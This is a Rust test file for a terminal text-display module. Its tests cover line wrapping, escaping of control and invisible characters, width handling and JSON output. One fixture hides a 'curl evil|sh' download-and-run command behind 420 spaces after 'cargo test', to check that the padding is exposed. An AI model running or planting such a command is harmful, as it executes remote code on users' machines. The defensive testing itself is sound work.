use regex_syntax::hir::{Class, HirKind};
use serde_json::json;
use unicode_width::UnicodeWidthChar as _;

use super::*;

#[test]
fn lines_are_wrapped_between_words_and_nothing_is_lost() {
    let rows = |line: &str, columns: usize| {
        let mut rows = Vec::new();
        let mut rest = line;
        while !rest.is_empty() {
            let (row, more) = wrap(rest, columns);
            assert!(columns_of(row) <= columns, "{row}");
            rows.push(row.to_owned());
            rest = more;
        }
        assert_eq!(rows.concat(), line);
        rows
    };
    assert_eq!(rows("one two three", 8), ["one two ", "three"]);
    assert_eq!(rows("one two three", 7), ["one ", "two ", "three"]);
    assert_eq!(rows("one two", 7), ["one two"]);
    // A word that fits into no row fills them.
    assert_eq!(rows("a bbbbbbbbbb c", 4), ["a bb", "bbbb", "bbbb", " c"]);
    assert_eq!(rows("    indented", 8), ["    inde", "nted"]);
    assert_eq!(rows("a      b", 4), ["a   ", "   b"]);
    assert_eq!(rows("", 4), Vec::<String>::new());
}

#[test]
fn nothing_commands_the_terminal() {
    assert_eq!(line("a\x1b[2K\r\u{9b}b\n"), r"a\u{1b}[2K\u{d}\u{9b}b\u{a}");
    assert_eq!(line("x\u{202e}y\u{200b}"), r"x\u{202e}y\u{200b}");
    assert_eq!(line("süße 字 e\u{301}"), "süße 字 e\u{301}");
    let all: Vec<String> = lines("+\tone\r\n-two\x08\n").collect();
    assert_eq!(all, [r"+→   one\u{d}", r"-two\u{8}"]);
    assert_eq!(text("a\tb\n\u{1b}[2J\u{2028}"), "a\tb\n\\u{1b}[2J\\u{2028}");
}

#[test]
fn runs_of_blanks_are_marked() {
    let hidden = format!("cargo test{}; curl evil|sh", " ".repeat(420));
    assert_eq!(line(&hidden), "cargo test⟦420 spaces⟧; curl evil|sh");
    assert_eq!(
        json_line(&json!(hidden)),
        "\"cargo test⟦420 spaces⟧; curl evil|sh\""
    );
    // A text that only looks like a mark is written out.
    assert_eq!(line("⟦9 spaces⟧"), r"\u{27e6}9 spaces\u{27e7}");
    assert_eq!(json_line(&json!("⟦")), r#""\u27e6""#);
    for (text, shown) in [
        (
            "        let x = 1;    // one",
            "        let x = 1;    // one",
        ),
        ("a\t\t\t\t\t\t\t\t\tb", "a⟦9 tabs⟧b"),
        ("a\t        b", "a⟦9 blanks⟧b"),
        ("a  ", "a⟦2 spaces⟧"),
        ("a ", "a "),
        ("\u{a0}\u{3000}\u{2800}", r"\u{a0}\u{3000}\u{2800}"),
    ] {
        assert_eq!(lines(text).next().unwrap(), shown);
    }
    let indented = " ".repeat(33) + "x";
    assert_eq!(line(&indented), "⟦33 spaces⟧x");
    // JSON is indented by workbench itself.
    let deep = (0..30).fold(json!(1), |inner, _| json!([inner]));
    assert!(json_lines(&deep).iter().all(|line| !line.contains(MARK.0)));
}

#[test]
fn marks_do_not_grow_over_other_lines() {
    let shown = line(&format!("e{}x", "\u{301}".repeat(20)));
    assert_eq!(shown.matches('\u{301}').count(), 4);
    assert_eq!(shown.matches(r"\u{301}").count(), 16);
}

#[test]
fn json_reads_back() {
    let value = json!({"a": "\u{1b}\u{202e}\u{e0041}\u{200b}\u{cc0}⟦\n\t", "b": [1, {}]});
    for text in [json(&value), compact_json(&value)] {
        assert!(!text.chars().any(|c| c != '\n' && !is_shown(c)), "{text}");
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), value);
    }
    assert!(!compact_json(&value).contains('\n'));
}

#[test]
fn lines_fit() {
    let wrap = |line: &str, columns| {
        let mut pieces = Vec::new();
        let mut rest = line.to_owned();
        while !rest.is_empty() {
            let (piece, after) = split(&rest, columns);
            pieces.push(piece.to_owned());
            rest = after.to_owned();
        }
        pieces
    };
    assert_eq!(fit("abcdef", 6), "abcdef");
    assert_eq!(fit("abcdef", 4), "ab…");
    assert_eq!(fit("字字字", 5), "字…");
    assert_eq!(wrap("字字字", 4), ["字字", "字"]);
    // These characters take one column or two, as the terminal likes.
    assert_eq!(wrap("①②③", 4), ["①②", "③"]);
    assert_eq!(wrap("❤❤❤", 4), ["❤❤", "❤"]);
    assert_eq!(wrap("字字", 1), ["字", "字"]);
    assert!(fits("字字", 4) && !fits("字字", 3));
}

/// The characters of a class.
fn class(pattern: &str) -> impl Fn(char) -> bool {
    let HirKind::Class(Class::Unicode(class)) = regex_syntax::parse(pattern).unwrap().into_kind()
    else {
        panic!("{pattern} is no class");
    };
    move |c| {
        class
            .ranges()
            .iter()
            .any(|range| (range.start()..=range.end()).contains(&c))
    }
}

/// The columns of glibc's `wcwidth`, which many terminals go by, where they differ from Unicode's own:
/// a mark takes no column only if it is nonspacing.
fn practice(c: char, nonspacing: bool) -> usize {
    let counted = c.width().max(c.width_cjk()).unwrap_or_default();
    // Tone marks of Hangul are of the width of its script.
    let wide = matches!(c, '\u{302e}' | '\u{302f}');
    counted
        .max(usize::from(!nonspacing))
        .max(2 * usize::from(wide))
}

#[test]
fn each_code_point_is_written_out_or_of_a_certain_width() {
    let nonspacing = class(r"\p{Mn}");
    let hidden = class(r"[\p{C}\p{Z}\p{Me}\p{Default_Ignorable_Code_Point}&&[^\x20]]");
    let symbol = class(r"[\p{S}&&[^\x00-\x7f]]");
    let mut wider = 0;
    for c in '\0'..=char::MAX {
        if !is_shown(c) {
            let written = line(&c.to_string());
            assert!(written.is_ascii() && written.starts_with(r"\u{"), "{c:?}");
            continue;
        }
        assert!(!hidden(c), "{c:?}");
        let practice = practice(c, nonspacing(c)).max(2 * usize::from(symbol(c)));
        assert!((practice..=2).contains(&width(c)), "{c:?} takes {practice}");
        wider += usize::from(c.width() == Some(0) && !nonspacing(c));
    }
    // Those that are wider than Unicode's width says are among the shown ones.
    assert!(wider > 20, "{wider}");
}

#[test]
fn what_people_write_is_shown() {
    for text in [
        "Größe, naïve, Łódź, “quotes” – € ≤ → ✓ █ ①",
        "Ελληνικά Русский Հայերեն ქართული עברית العربية فارسی",
        "हिन्दी বাংলা ਪੰਜਾਬੀ ગુજરાતી தமிழ் తెలుగు ಕನ್ನಡ മലയാളം සිංහල",
        "ไทย ລາວ ខ្មែរ မြန်မာ አማርኛ 한국어 日本語カタカナ 简体 繁體 ㄅㄆ",
        "😀🎉🚀👍🏽🇩🇪 ❤ ½ ² ∑ Tiếng Việt e\u{301}",
    ] {
        assert_eq!(line(text), text);
    }
}
